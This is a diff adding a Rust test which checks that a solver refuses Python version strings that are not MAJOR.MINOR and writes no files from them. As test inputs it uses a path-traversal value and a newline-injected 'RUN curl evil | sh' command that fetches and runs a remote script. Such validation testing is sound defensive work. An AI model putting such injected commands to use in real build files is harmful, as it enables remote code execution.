@@ -313,6 +313,32 @@ fn verification_refuses_an_import_nothing_provides_unless_the_plan_says_why() {
 }
 
 #[test]
+fn a_python_version_that_is_not_major_minor_is_refused_not_written() {
+    let mut inv = small(3, 5);
+    inv.flows[0].requirement.as_mut().unwrap().python = Some("../../../x".into());
+    inv.flows[1].requirement.as_mut().unwrap().python = Some("3.11\nRUN curl evil | sh".into());
+    let s = solve(&inv, &Rules::default_rules(), &Options::default()).unwrap();
+    assert_eq!(s.plan.unplanned.len(), 2);
+    assert!(
+        s.plan
+            .unplanned
+            .iter()
+            .all(|u| u.reason.contains("not MAJOR.MINOR"))
+    );
+    assert!(
+        s.files
+            .iter()
+            .all(|(path, text)| !path.contains("..") && !text.contains("curl"))
+    );
+    assert!(demand::is_python_minor("3.11") && demand::is_python_minor("3.9"));
+    assert!(
+        !demand::is_python_minor("3")
+            && !demand::is_python_minor("3.11.1")
+            && !demand::is_python_minor("a.b")
+    );
+}
+
+#[test]
 fn explain_names_the_clash() {
     let inv = small(40, 7);
     let r = rules("[versions]\ndefault = \"exact\"\n");
